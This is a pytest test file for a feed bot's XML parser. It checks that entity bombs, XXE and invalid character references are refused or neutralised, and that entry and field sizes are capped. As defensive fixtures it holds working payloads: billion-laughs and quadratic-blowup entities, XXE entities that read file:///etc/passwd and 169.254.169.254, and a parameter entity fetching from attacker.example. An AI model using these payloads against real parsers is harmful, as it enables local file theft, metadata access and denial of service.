"""Hostile documents: entity bombs, XXE, bad character references, huge feeds."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

import bot.parse.xml as parse_xml
from bot.opml import OPMLError, parse_opml
from bot.parse import MAX_ENTRIES, ParseError, parse_feed
from bot.parse.common import BODY_MAX, TITLE_MAX
from bot.parse.guard import ENTITY_REFUSAL

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def _rss(items: str, doctype: str = "", channel_title: str = "c") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}\n<rss version="2.0"><channel>'
        f"<title>{channel_title}</title>{items}</channel></rss>"
    ).encode()


def _parse(body: bytes, **kw):
    return parse_feed(body, url="https://example.org/feed.xml", now=NOW, **kw)


def quadratic_blowup(n_refs: int = 10_000, size: int = 10_000) -> bytes:
    # The document: 40 KB, one 10 KB entity referenced 10,000 times.
    return _rss(
        f"<item><title>x</title><description>{'&e;' * n_refs}</description></item>",
        f'<!DOCTYPE rss [<!ENTITY e "{"A" * size}">]>',
    )


def billion_laughs() -> bytes:
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return _rss("<item><title>&lol9;</title></item>", f"<!DOCTYPE rss [{''.join(ents)}]>")


HOSTILE_DTDS = {
    "quadratic": quadratic_blowup(),
    "laughs": billion_laughs(),
    "xxe-file": _rss(
        "<item><title>&x;</title></item>",
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    "xxe-http": _rss(
        "<item><title>&x;</title></item>",
        '<!DOCTYPE rss [<!ENTITY x PUBLIC "-//x//" "http://169.254.169.254/latest">]>',
    ),
    "parameter-entity": _rss(
        "<item><title>t</title></item>",
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    ),
    "lowercase-space": _rss(
        "<item><title>&e;</title></item>", f"<!doctype rss [ <!ENTITY  e '{'B' * 500}' > ]>"
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_DTDS))
def test_entity_declarations_are_refused_before_parsing(name, monkeypatch):
    def no_parser(*args, **kwargs):
        raise AssertionError("feedparser ran on a document with entities")

    monkeypatch.setattr(parse_xml.feedparser, "parse", no_parser)
    with pytest.raises(ParseError) as info:
        _parse(HOSTILE_DTDS[name])
    assert str(info.value) == ENTITY_REFUSAL


def test_utf16_bomb_is_refused():
    body = quadratic_blowup(200, 2_000).decode().replace("utf-8", "utf-16").encode("utf-16")
    with pytest.raises(ParseError) as info:
        _parse(body)
    assert str(info.value) == ENTITY_REFUSAL


def test_feedparser_itself_refuses_entities_on_the_text_it_decoded():
    # The second line of defence, for a declaration the byte check could not
    # read (an encoding feedparser decodes on its own): feedparser's DTD step.
    with pytest.raises(ParseError) as info:
        parse_xml._feedparser(quadratic_blowup(), "application/xml", "https://example.org/")
    assert str(info.value) == ENTITY_REFUSAL


def test_a_one_character_alias_is_still_read():
    body = _rss(
        "<item><title>a&nbsp;b</title><link>https://example.org/1</link></item>",
        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>',
    )
    assert _parse(body).entries[0].title == "a b"


def test_an_external_dtd_is_dropped_not_fetched_and_the_feed_read():
    body = _rss(
        "<item><title>t</title><link>https://example.org/1</link></item>",
        '<!DOCTYPE rss SYSTEM "file:///etc/passwd">',
    )
    netscape = _rss(
        "<item><title>u</title><link>https://example.org/2</link></item>",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    )
    assert [e.title for e in _parse(body).entries] == ["t"]
    assert [e.title for e in _parse(netscape).entries] == ["u"]


@pytest.mark.parametrize("name", ["quadratic", "laughs", "xxe-file", "parameter-entity"])
def test_opml_with_entities_is_refused(name):
    body = HOSTILE_DTDS[name].replace(b"<rss", b"<opml").replace(b"</rss>", b"</opml>")
    with pytest.raises(OPMLError, match="entities"):
        parse_opml(body)


def test_opml_without_entities_still_imports():
    body = (
        b'<?xml version="1.0"?><opml version="2.0"><head/><body>'
        b'<outline text="a" xmlUrl="https://example.org/a.xml"/></body></opml>'
    )
    assert [o.url for o in parse_opml(body)] == ["https://example.org/a.xml"]


# ------------------------------------------------------------ character references

BAD_REFS = ["&#xD800;", "&#x110000;", "&#99999999999;", "&#0;", "&#x0000000000041;"]


@pytest.mark.parametrize("ref", BAD_REFS)
@pytest.mark.parametrize("field", ["title", "description", "link", "author", "category"])
def test_invalid_character_references_become_replacement_characters(ref, field):
    values = {
        "title": "T",
        "description": "Body",
        "link": "https://example.org/a",
        "author": "a@example.org (Ann)",
        "category": "news",
    }
    values[field] += ref
    item = "".join(f"<{k}>{v}</{k}>" for k, v in values.items())
    entry = _parse(_rss(f"<item>{item}</item>")).entries[0]
    text = {
        "title": entry.title,
        "description": entry.html,
        "link": entry.link or "",
        "author": entry.author or "",
        "category": " ".join(entry.categories),
    }[field]
    if ref == "&#x0000000000041;":  # a valid reference with leading zeros stays valid
        assert "A" in text or field == "link"
    else:
        assert "\ufffd" in text or field == "link"


def test_any_parser_exception_becomes_a_parse_error(monkeypatch):
    def broken(*args, **kwargs):
        raise OverflowError("a bug in a parser")

    monkeypatch.setattr(parse_xml, "FAST_PATH", False)
    monkeypatch.setattr(parse_xml.feedparser, "parse", broken)
    with pytest.raises(ParseError) as info:
        _parse(_rss("<item><title>t</title></item>"))
    assert isinstance(info.value.__cause__, OverflowError)


def test_a_fast_parser_exception_also_becomes_a_parse_error(monkeypatch):
    def broken(*args, **kwargs):
        raise UnicodeEncodeError("utf-8", "x", 0, 1, "a bug in a parser")

    monkeypatch.setattr(parse_xml.fast, "read", broken)
    with pytest.raises(ParseError):
        _parse(_rss("<item><title>t</title></item>"))


# ------------------------------------------------------------------------ caps


def _items(n: int, *, dated: bool) -> str:
    """n items, n0 the oldest, in document order n0, n1, …"""
    out = []
    for i in range(n):
        when = (NOW - timedelta(hours=n - i)).strftime("%a, %d %b %Y %H:%M:%S GMT")
        date = f"<pubDate>{when}</pubDate>" if dated else ""
        out.append(f"<item><title>n{i}</title><guid>g{i}</guid>{date}</item>")
    return "".join(out)


def test_at_most_max_entries_the_newest_by_date():
    # Oldest first: the newest (n150 … n249) are at the end of the document.
    feed = _parse(_rss(_items(250, dated=True)))
    assert len(feed.entries) == MAX_ENTRIES
    assert [e.title for e in feed.entries] == [f"n{i}" for i in range(150, 250)]


def test_without_dates_the_first_entries_in_document_order():
    feed = _parse(_rss(_items(150, dated=False)), max_entries=10)
    assert [e.title for e in feed.entries] == [f"n{i}" for i in range(10)]


def test_title_and_body_are_capped():
    item = f"<item><title>{'t' * 5000}</title><description>{'b' * 300_000}</description></item>"
    entry = _parse(_rss(item)).entries[0]
    assert len(entry.title) == TITLE_MAX
    assert len(entry.html) == BODY_MAX
